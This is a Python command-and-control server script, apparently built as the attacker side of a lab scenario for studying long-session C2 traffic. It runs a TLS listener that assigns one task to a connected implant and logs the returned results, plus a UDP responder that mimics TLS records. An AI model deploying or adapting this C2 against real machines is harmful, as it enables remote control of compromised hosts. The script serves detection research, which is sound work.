#!/usr/bin/python3
"""The C2 of the c2-long-session story (attacker side). Over TLS (TLS 1.2 at most, so the certificate travels in
clear) it takes implants that keep ONE connection open and frame every message as a 4-byte big-endian length
followed by JSON: it answers each check-in with {"task":null}, or with TASK once, in answer to check-in
TASK_AT, and logs the result the implant sends in a later check-in. If UDP_PORT is not 0 it also answers every
datagram on that port with 30-60 random-looking bytes (the UDP implant). Stops after LIFETIME seconds.

    session-c2-server.py ADDR TLS_PORT CERT KEY UDP_PORT TASK_AT TASK LIFETIME
"""
import json, os, random, socket, ssl, struct, sys, threading, time

ADDR, PORT, CERT, KEY, UDP_PORT, TASK_AT, TASK, LIFETIME = (sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4],
                                                            int(sys.argv[5]), int(sys.argv[6]), sys.argv[7], float(sys.argv[8]))
rng = random.Random(20261226)


def log(*a):
    print(time.strftime("%H:%M:%S"), *a, flush=True)


def recv_exact(s, n):
    b = b""
    while len(b) < n:
        c = s.recv(n - len(b))
        if not c:
            return None
        b += c
    return b


def send_msg(s, obj):
    data = json.dumps(obj, separators=(",", ":")).encode()
    s.sendall(struct.pack(">I", len(data)) + data)       # one write: one TLS record


def session(conn, peer):
    log("session open", peer, "cipher", conn.cipher(), conn.version())
    task_sent = False
    try:
        while True:
            head = recv_exact(conn, 4)
            if head is None:
                break
            body = recv_exact(conn, struct.unpack(">I", head)[0])
            if body is None:
                break
            msg = json.loads(body)
            log("check-in", msg.get("seq"), "status", msg.get("status"), "bytes", len(body) + 4)
            if msg.get("status") == "result":
                log("RESULT of task %r:\n%s" % (msg.get("task"), msg.get("out")))
            if msg.get("seq") == TASK_AT and not task_sent:
                send_msg(conn, {"task": TASK})
                task_sent = True
                log("task sent:", TASK)
            else:
                send_msg(conn, {"task": None})
    except Exception as e:
        log("session error", e)
    finally:
        try:
            conn.close()
        except Exception:
            pass
        log("session closed", peer)


def tls_loop():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.maximum_version = ssl.TLSVersion.TLSv1_2
    ctx.load_cert_chain(CERT, KEY)
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((ADDR, PORT))
    ls.listen(5)
    while True:
        c, peer = ls.accept()
        try:
            t = ctx.wrap_socket(c, server_side=True)
        except Exception as e:
            log("handshake failed", peer, e)
            c.close()
            continue
        threading.Thread(target=session, args=(t, peer), daemon=True).start()


def udp_loop():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((ADDR, UDP_PORT))
    n = 0
    while True:
        data, peer = u.recvfrom(2048)
        n += 1
        reply = b"\x17\x03" + data[2:6] + os.urandom(rng.randint(30, 60) - 6)
        u.sendto(reply, peer)
        log("udp", n, peer, "in", len(data), "out", len(reply))


threading.Thread(target=tls_loop, daemon=True).start()
if UDP_PORT:
    threading.Thread(target=udp_loop, daemon=True).start()
time.sleep(LIFETIME)
